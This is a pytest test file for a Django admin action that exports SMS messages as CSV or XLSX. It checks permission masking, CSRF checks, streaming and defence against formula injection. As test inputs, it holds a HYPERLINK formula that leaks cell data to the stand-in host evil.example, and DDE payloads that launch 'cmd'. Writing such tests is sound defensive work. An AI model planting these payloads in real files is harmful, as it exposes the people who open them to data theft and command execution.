"""Export messages: asked first, streamed, masked, and no spreadsheet computes anything."""

import csv
import io
import sys
from datetime import timedelta
from decimal import Decimal
from uuid import uuid4

import pytest
from asgiref.sync import async_to_sync
from django.db import connections
from django.test import AsyncClient
from django.utils import timezone
from openpyxl import load_workbook

from django_smsww import State
from django_smsww.admin import export as exporting
from django_smsww.admin import export_files
from django_smsww.admin.export_files import safe
from django_smsww.models import Message
from django_smsww.models.viewer import HIDDEN

from ..conftest import NUMBER
from ..support.people import LIST, browser_of, missing, notices, selection, staff, text_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SEEING = ("view_message", "export_message", "view_message_content", "view_message_costs")
pytestmark = pytest.mark.django_db


def choose(*rows, **extra):
    return selection(*rows, action="export_selected", index="0", **extra)


def confirm(*rows, **extra):
    """Return the form of the confirmation."""
    return selection(*rows, action="export_selected", confirmed="yes", **extra)


def table(answer):
    assert answer.streaming
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_asks_first(browser, make_message):
    rows = [
        make_message(segments=2, country="IT", total_price=Decimal("0.14")),
        make_message(segments=1, country="IT", state=State.DELIVERED),
        make_message(segments=1, country="", recipient="+34600000000"),
    ]
    answer = browser.post(LIST, choose(*rows))
    shown = ("3 messages", "4 segments", "Countries: IT (2), ES (1).", "0.14 EUR", "1 was deliv")
    assert not missing(answer, *shown)
    assert "Content-Disposition" not in answer


def test_the_confirmed_are_in_the_file(browser, make_message):
    body, user = "Così, “fine”\nsecond; line", staff(name="=cmd")
    facts = {"total_price": Decimal("0.140000"), "tag": "otp", "key": "order-7", "batch": uuid4()}
    message = make_message(body=body, created_by=user, **facts)
    make_message()
    answer = browser.post(LIST, confirm(message))
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer["Content-Disposition"]
    [row] = table(answer)
    assert (row["recipient"], row["body"]) == (NUMBER, body)
    assert (row["total_price"], row["penalty"], row["tag"]) == ("0.140000", "", "otp")
    assert (row["reference"], row["key"]) == (str(message.reference), "order-7")
    assert (row["created_by"], row["batch"]) == ("'=cmd", str(message.batch))


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "\n=1", "＝1+1", "+39 333", "+"],
)
def test_no_cell_is_a_formula(browser, make_message, text):
    names = ("body", "tag", "sender", "error", "key")
    message = make_message(**dict.fromkeys(names, text[:32]) | {"body": text})
    [row] = table(browser.post(LIST, confirm(message)))
    assert all(row[name].startswith("'") for name in names)


@pytest.mark.parametrize("text", [NUMBER, "0.14", "-1.5", "Hello =1", "'quoted", "", "1-2"])
def test_numbers_and_plain_texts_survive_a_round_trip(text):
    assert safe(text) == text


def test_the_filters_and_the_search_hold_for_all_of_the_list(browser, make_message):
    wanted = [make_message(tag="otp", state=State.FAILED) for _ in range(3)]
    make_message(tag="otp")
    make_message(state=State.FAILED)
    address = f"{LIST}?tag=otp&state=FAILED"
    question = browser.post(address, choose(wanted[0], select_across="1"))
    assert not missing(question, "3 messages", 'name="select_across" value="1"')
    rows = table(browser.post(address, confirm(wanted[0], select_across="1")))
    assert {row["reference"] for row in rows} == {str(row.reference) for row in wanted}


@pytest.mark.parametrize("missing", ["view_message_content", "view_message_costs"])
def test_what_may_not_be_seen_is_not_in_the_file(make_message, missing):
    content = {"body": "secret", "key": f"{NUMBER}-x", "custom": {"phone": NUMBER}}
    costs = {"total_price": Decimal("0.37"), "error_code": "0.37", "error_text": "0.37"}
    message = make_message(**content, **costs, error="InsufficientCredit")
    client = browser_of(staff(*(set(SEEING) - {missing})))
    [row] = table(client.post(LIST, confirm(message)))
    values = ",".join(row.values())
    if missing == "view_message_content":
        assert (row["recipient"], row["body"]) == (HIDDEN, HIDDEN)
        assert NUMBER[1:] not in values
        assert "secret" not in values
    else:
        assert "0.37" not in values
        assert NUMBER in values


@pytest.mark.parametrize("extra", [{}, {"confirmed": "yes"}, {"select_across": "1"}])
def test_nothing_is_exported_without_the_permission(make_message, extra):
    message = make_message()
    client = browser_of(staff(*(set(SEEING) - {"export_message"})))
    answer = client.post(LIST, choose(message, **extra))
    assert "Content-Disposition" not in answer
    assert "export_selected" not in text_of(client.get(LIST))


def test_nothing_is_exported_on_get_or_without_the_token(make_message):
    message = make_message()
    strict = browser_of(staff(*SEEING), enforce_csrf_checks=True)
    assert "Content-Disposition" not in strict.get(LIST, confirm(message))
    assert strict.post(LIST, confirm(message)).status_code == 403


def test_an_endless_file_is_refused(browser, make_message, monkeypatch):
    monkeypatch.setattr(exporting, "MOST_EXPORTED", 2)
    rows = [make_message() for _ in range(3)]
    answer = browser.post(LIST, confirm(*rows), follow=True)
    assert "At most 2 messages" in notices(answer)[0]


def test_a_file_needs_no_cursor_of_the_server(browser, make_message, monkeypatch):
    """A pooler such as PgBouncer loses it between two queries."""
    rows = [make_message(tag=tag) for tag in "abc"]

    def no_cursor(*args):
        raise AssertionError("a cursor of the server")

    monkeypatch.setattr(connections["default"], "chunked_cursor", no_cursor)
    answer = browser.post(LIST, confirm(*rows))
    rows[1].delete()  # while the file is written
    assert [row["tag"] for row in table(answer)] == ["c", "a"]


def test_a_long_file_takes_a_query_for_each_piece(browser, make_message, monkeypatch, queries):
    monkeypatch.setattr(export_files, "ROWS_AT_ONCE", 10)
    for _ in range(45):
        make_message()
    with queries:
        answer = browser.post(LIST, confirm(Message.objects.first(), select_across="1"))
        pieces = list(answer.streaming_content)
    assert len(pieces) == 1 + 5
    assert len([query for query in queries if '"recipient"' in query["sql"]]) <= 1 + 5


def sheet(answer):
    """Return the rows of an XLSX file, as cells, by the names of their columns."""
    book = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    [names, *lines] = book.active.iter_rows()
    return [dict(zip((name.value for name in names), line, strict=True)) for line in lines]


def test_a_spreadsheet_shows_what_the_rows_hold(browser, make_message):
    """No number becomes a power of ten, no zero is lost, and no text computes."""
    facts = {"provider_id": "0012345678901234567", "tag": "007", "error": "#N/A"}
    body = "=1+1\nCiao;=cmd|' /C calc'!A0\x0b"
    message = make_message(body=body, total_price=Decimal("0.14"), segments=2, **facts)
    [row] = sheet(browser.post(LIST, confirm(message, xlsx="1")))
    texts = facts | {"recipient": NUMBER, "body": body.replace("\x0b", "\ufffd")}
    assert {name: row[name].value for name in texts} == texts
    assert {(row[name].data_type, row[name].number_format) for name in texts} == {("s", "@")}
    assert (row["total_price"].value, row["segments"].value) == (0.14, 2)
    created = timezone.localtime(message.created_at).replace(tzinfo=None)
    assert abs(row["created_at"].value - created) < timedelta(seconds=2)
    assert row["sent_at"].value is None


def test_xlsx_masks_as_csv_does(make_message):
    client = browser_of(staff("view_message", "export_message"))
    message = make_message(body="secret", total_price=Decimal("0.37"))
    [row] = sheet(client.post(LIST, confirm(message, xlsx="1")))
    assert (row["recipient"].value, row["body"].value) == (HIDDEN, HIDDEN)
    assert "total_price" not in row


@pytest.mark.parametrize("reason", ["the extra is missing", "too many messages"])
def test_xlsx_is_offered_where_it_can_be_made(browser, make_message, monkeypatch, reason):
    message, button = make_message(), 'name="xlsx"'
    assert not missing(browser.post(LIST, choose(message)), button)
    if reason == "too many messages":
        monkeypatch.setattr(exporting, "MOST_IN_XLSX", 0)
    else:
        monkeypatch.setitem(sys.modules, "openpyxl", None)
    assert missing(browser.post(LIST, choose(message)), button)
    assert "csv" in browser.post(LIST, confirm(message, xlsx="1"))["Content-Type"]


@pytest.mark.parametrize("delimiter", [";", "\t", ","])
@pytest.mark.parametrize(
    "text",
    [
        "Ciao;=cmd|' /C calc'!A0;",
        "Ciao;\"=cmd|' /C calc'!A0\";",
        "Ciao; \t@SUM(A1)\t",
        "a\n=cmd|' /C calc'!A0;\"",
        "a\r\n+1+1",
        "a;\n;＝1+1",
    ],
)
def test_no_cell_is_a_formula_for_readers_of_other_delimiters(
    browser, make_message, text, delimiter
):
    answer = browser.post(LIST, confirm(make_message(body=text)))
    content = b"".join(answer.streaming_content).decode("utf-8-sig")
    lines = csv.reader(io.StringIO(content, newline=""), delimiter=delimiter)
    cells = {cell.strip() for line in lines for cell in line} - {NUMBER}
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠"))]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("wanted", [{}, {"xlsx": "1"}])
def test_it_streams_under_asgi(make_message, monkeypatch, wanted):
    """Django warns, and warnings are errors, where it must read an iterator to its end."""
    monkeypatch.setattr(export_files, "ROWS_AT_ONCE", 1)
    rows = [make_message() for _ in range(3)]
    client = AsyncClient()
    client.force_login(staff(*SEEING))

    async def pieces():
        answer = await client.post(LIST, confirm(*rows, **wanted))
        assert answer.is_async
        return [piece async for piece in answer]

    found = async_to_sync(pieces)()
    content = b"".join(found)
    if wanted:
        assert content.startswith(b"PK")
    else:
        assert (len(found), content.count(NUMBER.encode())) == (4, 3)
